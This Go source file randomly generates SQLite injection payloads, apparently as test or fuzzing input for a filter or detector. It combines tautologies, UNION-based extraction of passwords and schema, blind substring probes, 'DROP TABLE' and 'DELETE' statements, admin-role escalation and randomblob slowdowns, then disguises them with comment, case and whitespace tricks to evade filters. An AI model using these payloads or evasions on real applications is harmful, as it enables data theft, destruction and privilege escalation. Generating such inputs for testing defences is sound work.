package main

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// maker writes attacks the way tools do: an opening that leaves the place where
// the value stands, a body that does something, an ending that hides or repairs
// the rest, and disguises.
type maker struct{ *rand.Rand }

func pick[T any](m maker, list []T) T { return list[m.IntN(len(list))] }

var (
	openings = []string{
		"'", "'", "'", "mug'", "1'", "')", "'))", "%'", "%')", "' ", "x' ", "-1'", `"`, `")`, `name" `,
		"1", "1", "1", "-1", "7", "0", "1)", "1))", "(1)", "name", "id", "name,", "1,", "", "*/", "\n", "ASC,", "DESC ", "products ", "1.5", "1e0", "0x1", "'a'",
	}
	endings = []string{
		"", "", "--", "-- ", "-- -", "--+", "/*", ";", ";--", " AND '1'='1", " AND '1' LIKE '1", " OR 'x'='", " AND ('1'='1", ")--", "))--", " AND 1=1", " AND (1=1", "||'", " /*", "\x00", " LIMIT 1--", "\n--",
	}
	bodies = []string{
		" OR 1=1", " OR true", " OR 'a'='a'", " OR 2>1", " OR id=id", " OR 1", " OR NOT 0", " OR '1'='1'", " OR 1 IS NOT NULL", " OR 1 BETWEEN 0 AND 2",
		" AND 1=2", " AND 1=1", " AND 0", " AND id>0", " AND (SELECT count(*) FROM users)>0", " AND substr((SELECT password FROM users LIMIT 1),1,1)='a'",
		" AND unicode(substr((SELECT group_concat(sql) FROM sqlite_master),%d,1))>%d", " AND EXISTS(SELECT 1 FROM users WHERE role='admin')",
		" AND length((SELECT password FROM users WHERE id=%d))>%d", " AND (CASE WHEN (1=1) THEN 1 ELSE 0 END)", " XOR 1", " LIKE 1", " IS NOT NULL", " = 1 = 1",
		" UNION SELECT %c", " UNION ALL SELECT %c", " UNION SELECT %c FROM users", " UNION ALL SELECT %c FROM sqlite_master", " UNION SELECT %c FROM users WHERE role='admin'",
		" UNION SELECT * FROM (SELECT %c)", " EXCEPT SELECT %c", " INTERSECT SELECT %c FROM users", " UNION VALUES(%c)",
		"; DROP TABLE users", "; DELETE FROM users", "; UPDATE users SET role='admin' WHERE id=%d", "; INSERT INTO users (email) VALUES ('x')", ";SELECT 1", "; ATTACH DATABASE 'x' AS y", "; CREATE TABLE t (a)", "; PRAGMA table_info(users)",
		" AND %d=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(%d00000000/2))))", " OR randomblob(%d)", " AND 1=randomblob(1000000)", " AND 1=(SELECT 1 FROM users,users,users)",
		"||(SELECT password FROM users LIMIT 1)||", "||(SELECT sqlite_version())", "+(SELECT %d)", "-(SELECT count(*) FROM users)", "*(SELECT id FROM users LIMIT 1)", "||sqlite_version()", "+%d", "-0", "*1", "%%2", "/1", "|1", "&1", "<<1", "||'a'",
		", password=(SELECT 'x')", ", (SELECT password FROM users)", ",(SELECT CASE WHEN 1=1 THEN 1 ELSE 0 END)", " COLLATE NOCASE", " LIMIT 1", " LIMIT 1 OFFSET %d", " GROUP BY id", " HAVING 1=1", " ORDER BY %d", " ORDER BY (SELECT 1)",
		" AND CAST((SELECT password FROM users LIMIT 1) AS INT)", " AND abs(-9223372036854775808)", " AND load_extension('x')", " AND json('x')", " AND 1 GLOB 1", " AND name REGEXP 'x'", " ISNULL", " NOTNULL", "<99", "=0 OR 1", " IN (SELECT id FROM users)",
		" RETURNING *", " AND password LIKE 'a%%'", " WHERE 1=1", " FROM users", " password FROM users", "', (SELECT password FROM users), '", "', 1, 1)", ",1,1)", ", role='admin", "', role='admin",
	}
	whole = []string{
		"(SELECT 1)", "(SELECT password FROM users LIMIT 1)", "(SELECT count(*) FROM users)", "CASE WHEN 1=1 THEN id ELSE name END", "(CASE WHEN (SELECT 1)=1 THEN 1 ELSE 2 END)",
		"id", "owner", "rowid", "name", "abs(1)", "random()", "1=1", "NOT 0", "-id", "+id", "~1", "id=id", "id*1", "id OR 1", "1 OR id", "'a'||'b'", "sqlite_version()", "(1)", "((1))", "1 IS 1", "coalesce(1,id)", "iif(1,1,0)", "x'31'||''",
		"*", "*,1", "id,password", "password", "users", "users u", "users,products", "(SELECT * FROM users)", "users JOIN products", "max(id)", "group_concat(name)", "name||id", "length(name)", "hex(name)", "sql FROM sqlite_master", "sqlite_master",
		"1;", "1 ", "'x'", `"x"`, "1--", "1/*", "1/**/", "1 --x", "1 and 1", "1 or 1", "1 in (1)", "1 like 1", "null", "true or 1", "1<2", "last_insert_rowid()", "changes()", "total_changes()",
	}
)

// payload returns one attack.
func (m maker) payload() string {
	if m.IntN(7) == 0 {
		return m.disguise(pick(m, whole))
	}
	body := pick(m, bodies)
	for strings.Contains(body, "%d") {
		body = strings.Replace(body, "%d", fmt.Sprint(1+m.IntN(98)), 1)
	}
	body = strings.ReplaceAll(strings.Replace(body, "%c", m.columns(), 1), "%%", "%")
	return pick(m, openings) + m.disguise(body) + pick(m, endings)
}

// columns is the list of a UNION, of the length a tool would have found or not.
func (m maker) columns() string {
	column := pick(m, []string{"NULL", "1", "'a'", "password", "sql", "char(97)", "hex(password)", "99"})
	n := 1 + m.IntN(8)
	return strings.TrimSuffix(strings.Repeat(column+",", n), ",")
}

// disguise rewrites a payload as tools do to get past filters.
func (m maker) disguise(s string) string {
	if m.IntN(2) == 0 {
		return s
	}
	switch m.IntN(9) {
	case 0:
		return strings.ReplaceAll(s, " ", "/**/")
	case 1:
		return strings.ReplaceAll(s, " ", pick(m, []string{"\t", "\n", "\r\n", "\f", "  ", "\n\t "}))
	case 2:
		return strings.ReplaceAll(s, " ", "/*x*/")
	case 3:
		return m.mixCase(s)
	case 4:
		return strings.ReplaceAll(s, "=", " LIKE ")
	case 5:
		return strings.ReplaceAll(s, " ", "--x\n")
	case 6:
		return strings.ToLower(s)
	case 7:
		return strings.NewReplacer(" OR ", "||", " AND ", " and+").Replace(s)
	default:
		return strings.ReplaceAll(s, "1=1", pick(m, []string{"(1)=(1)", "1<>2", "0x1=1", "1.0=1e0", "1 is 1", "'1'=1||''"}))
	}
}

func (m maker) mixCase(s string) string {
	b := []byte(s)
	for i, c := range b {
		if m.IntN(2) == 0 && (c|0x20) >= 'a' && (c|0x20) <= 'z' {
			b[i] = c ^ 0x20
		}
	}
	return string(b)
}
